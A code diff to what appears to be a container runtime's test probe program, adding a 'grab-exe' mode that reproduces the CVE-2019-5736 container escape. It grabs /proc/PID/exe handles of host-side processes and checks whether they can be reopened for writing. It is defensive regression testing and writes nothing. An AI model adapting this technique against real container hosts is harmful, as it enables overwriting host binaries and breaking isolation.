@@ -2,7 +2,9 @@
 // process sees of itself. Static and dependency-free so it works in any rootfs (busybox or empty).
 // Verbs (argv[1]): none or "probe" (everything), stat PATH..., read FILE, write FILE DATA,
 // ls DIR, sleep SECONDS, exit N, kill-self SIG, env, open FILE (O_RDWR), clocks (monotonic and
-// boottime seconds, for time namespace offsets).
+// boottime seconds, for time namespace offsets), grab-exe REPORT STOPFILE [PID] (the CVE-2019-5736
+// attacker: holds an O_PATH fd on every other process's /proc/PID/exe, or on PID's only, and once
+// that process is gone reopens it for writing; one JSON line per grabbed process in REPORT).
 #include <cerrno>
 #include <csignal>
 #include <cstdio>
@@ -412,9 +414,80 @@ int probeClocks() {
   return 0;
 }
 
+// The CVE-2019-5736 attacker, as a process in a container would do it: /proc/PID/exe of a helper
+// that runs in the container's pid namespace names the host's binary; an O_PATH fd on it outlives
+// the process, and once the binary is no longer running (no ETXTBSY) it can be reopened through
+// /proc/self/fd/N for writing. Nothing is written: the open for writing is the escape.
+struct Grab {
+  pid_t pid;
+  int fd;
+  std::string exe;
+  int reopenErrno = -1;  // -1 until tried; 0 when the open for writing succeeded
+};
+
+bool pidGone(pid_t pid) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d/stat", pid);
+  FILE *f = fopen(path, "r");
+  if (!f) return true;
+  char buf[512] = {};
+  size_t n = fread(buf, 1, sizeof buf - 1, f);
+  fclose(f);
+  const char *close = strrchr(buf, ')');
+  return n == 0 || !close || close[2] == 'Z' || close[2] == 'X';
+}
+
+int probeGrabExe(const char *report, const char *stopFile, pid_t only) {
+  std::vector<Grab> grabs;
+  const pid_t self = getpid();
+  bool ready = false;
+  for (;;) {
+    bool stop = access(stopFile, F_OK) == 0;
+    DIR *d = opendir("/proc");
+    if (!d) return 1;
+    while (struct dirent *ent = readdir(d)) {
+      pid_t pid = static_cast<pid_t>(atoi(ent->d_name));
+      if (pid <= 0 || pid == self || (only > 0 && pid != only)) continue;
+      if (std::any_of(grabs.begin(), grabs.end(), [&](const Grab &g) { return g.pid == pid; })) continue;
+      char path[64];
+      snprintf(path, sizeof path, "/proc/%d/exe", pid);
+      int fd = open(path, O_PATH | O_CLOEXEC);
+      if (fd < 0) continue;
+      grabs.push_back({pid, fd, readLink(path)});
+      FILE *mark = fopen((std::string(report) + ".grabbed").c_str(), "a");
+      if (mark) fclose(mark);
+    }
+    closedir(d);
+    if (!ready) {
+      FILE *mark = fopen((std::string(report) + ".ready").c_str(), "w");
+      if (mark) fclose(mark);
+      ready = true;
+    }
+    for (auto &g : grabs) {
+      if (g.reopenErrno >= 0 || !pidGone(g.pid)) continue;
+      char viaFd[64];
+      snprintf(viaFd, sizeof viaFd, "/proc/self/fd/%d", g.fd);
+      int w = open(viaFd, O_WRONLY | O_CLOEXEC);
+      g.reopenErrno = w >= 0 ? 0 : errno;
+      if (w >= 0) close(w);
+    }
+    if (stop) break;
+    usleep(200);
+  }
+  std::string out;
+  for (auto &g : grabs)
+    out += "{\"pid\":" + std::to_string(g.pid) + ",\"exe\":" + quote(g.exe) + ",\"writable\":" +
+           (g.reopenErrno == 0 ? "true" : "false") + ",\"errno\":" + std::to_string(g.reopenErrno) + "}\n";
+  FILE *f = fopen(report, "w");
+  if (!f) return 1;
+  fputs(out.c_str(), f);
+  fclose(f);
+  return 0;
+}
+
 int usage() {
   fputs("usage: probe [probe | stat PATH... | read FILE | write FILE DATA | ls DIR | sleep SECONDS |"
-        " exit N | kill-self SIG | env | open FILE | clocks]\n",
+        " exit N | kill-self SIG | env | open FILE | clocks | grab-exe REPORT STOPFILE [PID]]\n",
         stderr);
   return 2;
 }
@@ -430,6 +503,7 @@ int main(int argc, char **argv) {
   if (verb == "ls" && argc == 3) return probeLs(argv[2]);
   if (verb == "open" && argc == 3) return probeOpen(argv[2]);
   if (verb == "clocks" && argc == 2) return probeClocks();
+  if (verb == "grab-exe" && (argc == 4 || argc == 5)) return probeGrabExe(argv[2], argv[3], argc == 5 ? atoi(argv[4]) : 0);
   if (verb == "env" && argc == 2) {
     printf("%s\n", envJson().c_str());
     return 0;
